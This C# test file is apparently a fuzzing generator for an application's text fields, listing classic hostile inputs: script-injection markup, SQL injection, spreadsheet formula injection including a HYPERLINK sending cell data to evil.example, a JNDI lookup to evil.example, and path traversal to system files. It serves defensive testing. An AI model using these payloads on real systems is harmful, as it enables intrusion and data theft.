using CsCheck;

namespace OpenCem.Tests.Fuzzing;

/// <summary>
/// Text an attacker or a broken client sends: markup and script, SQL, CSV formulas, path traversal, bidirectional and
/// zero-width characters, NUL and other control characters, and plain random Unicode. Every such text is valid
/// UTF-16 (no lone surrogates), so a field that accepts text must store it exactly as sent.
/// </summary>
public static class HostileText
{
    public static readonly string[] Classics =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(document.domain)>",
        "</textarea><script>alert(2)</script>",
        "javascript:alert(3)",
        "'; DROP TABLE customers; --",
        "1' OR '1'='1",
        "\" OR \"\"=\"",
        "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "\u202Egnp.exe\u202C",
        "zero\u200Bwidth\u200D\uFEFFjoin",
        "nul\0byte",
        "bell\u0007back\bspace\u001B[31mred",
        "line\r\nbreak\n\"quoted\",comma;semi",
        "{{7*7}}${7*7}<%= 7*7 %>",
        "${jndi:ldap://evil.example/a}",
        "👍🏽 Grüße, çà, 日本語, עברית, العربية",
        "&lt;already&gt; &amp; escaped &#x3C;",
        "\u00A0\u2028\u2029",
        "",
        " ",
    ];

    /// <summary>One classic, a random Unicode string (surrogate pairs kept whole), or both joined.</summary>
    public static readonly Gen<string> Any = Gen.Frequency(
        (4, Gen.OneOf(Classics)),
        (2, RandomUnicode(0, 40)),
        (2, Gen.Select(Gen.OneOf(Classics), RandomUnicode(0, 12), Gen.OneOf(Classics), (a, b, c) => a + b + c)));

    /// <summary>
    /// Hostile text a field must store exactly: not empty after trimming, and without NUL (which is refused with 400,
    /// as PostgreSQL cannot store it).
    /// </summary>
    public static readonly Gen<string> Storable = Any.Select(text => text.Replace("\0", "NUL", StringComparison.Ordinal))
        .Select(text => string.IsNullOrWhiteSpace(text) ? "x" + text + "<b>x</b>" : text);

    /// <summary>
    /// <see cref="Storable"/> without the control characters other than tab and line breaks, which comment fields refuse
    /// (422 "contains control characters") as no keyboard types them.
    /// </summary>
    public static readonly Gen<string> Typed = Storable.Select(text =>
        new string([.. text.Select(c => char.IsControl(c) && c is not ('\t' or '\r' or '\n') ? '?' : c)]));

    /// <summary>Random code points from every plane except the surrogate range, control characters included.</summary>
    public static Gen<string> RandomUnicode(int min, int max) =>
        Gen.Frequency(
                (3, Gen.Int[0, 0x7F]),
                (2, Gen.Int[0x80, 0xD7FF]),
                (1, Gen.Int[0xE000, 0xFFFF]),
                (1, Gen.Int[0x10000, 0x10FFFF]))
            .Array[min, max]
            .Select(points => string.Concat(points.Select(char.ConvertFromUtf32)));
}
